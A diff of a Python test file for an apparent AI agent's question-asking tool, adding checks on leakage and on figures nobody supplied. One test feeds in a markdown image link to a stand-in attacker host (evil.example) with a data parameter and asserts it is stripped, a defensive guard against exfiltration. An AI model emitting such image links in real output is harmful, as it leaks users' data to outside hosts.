@@ -54,8 +54,16 @@ async def test_the_first_call_that_is_no_search_ends_the_steps() -> None:
 
 async def test_what_it_asks_carries_nothing_out() -> None:
     asked = await steered(call("ask_missing_information", f"{ASKED}![図](https://evil.example/p?d=x)"))
-    assert asked.question is not None
-    assert "evil.example" not in asked.question
+    told = asked.held_to("病気休暇", "ja")
+    assert (told.question, told.doubts) == (f"{ASKED}図", ())
+
+
+async def test_what_it_asks_claims_no_figure_that_nobody_gave() -> None:
+    asked = await steered(call("ask_missing_information", f"病気休暇は50日です。{ASKED}"))
+    told = asked.held_to("病気休暇は年10日です。", "ja")
+    assert (told.question, told.doubts) == (ASKED, ("number not in what was given: 50",))
+    nothing = (await steered(call("ask_missing_information", "病気休暇は50日です。"))).held_to("", "ja")
+    assert nothing.question is None
 
 
 async def test_what_it_asks_is_one_line() -> None:
